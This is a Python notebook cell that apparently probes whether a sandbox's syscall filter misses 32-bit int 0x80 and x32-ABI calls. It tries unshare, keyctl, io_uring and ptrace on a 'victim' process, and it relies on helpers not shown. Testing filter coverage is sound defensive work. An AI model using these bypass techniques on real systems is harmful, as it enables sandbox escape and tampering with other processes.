# System calls of 32-bit programs and of the x32 kind, which filters forget.
# %% q1
import ctypes, mmap, os
def through_int80(number, first=0, second=0):
    code = bytes.fromhex("53") + b"\xb8" + number.to_bytes(4, "little") + b"\xbb" + first.to_bytes(4, "little") + b"\xb9" + second.to_bytes(4, "little") + bytes.fromhex("cd80 5b c3".replace(" ", ""))
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    got = function()
    if got < 0:
        raise OSError(-got, os.strerror(-got))
    return got
def in_child(action):
    ends = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(ends[1], f"got {action()}".encode())
        except OSError as error:
            os.write(ends[1], str(error).encode())
        os._exit(0)
    os.close(ends[1])
    word = os.read(ends[0], 200).decode()
    status = os.waitpid(pid, 0)[1]
    if not word.startswith("got"):
        raise PermissionError(word or f"killed by signal {status & 127}")
    return word
attempt("32-bit unshare", lambda: in_child(lambda: through_int80(310, 0x10000000)))
attempt("32-bit keyctl", lambda: in_child(lambda: through_int80(288, 0, 0xFFFFFFFD)))
attempt("32-bit io_uring", lambda: in_child(lambda: through_int80(425, 1, 0x1000)))
attempt("x32 unshare", lambda: in_child(lambda: syscall(0x40000000 | 272, 0x10000000)))
attempt("x32 keyctl", lambda: in_child(lambda: syscall(0x40000000 | 250, 0, -3, 1)))
attempt("x32 ptrace", lambda: in_child(lambda: syscall(0x40000000 | 521, 16, targets["victim"], 0, 0)))
def double(x):
    return x
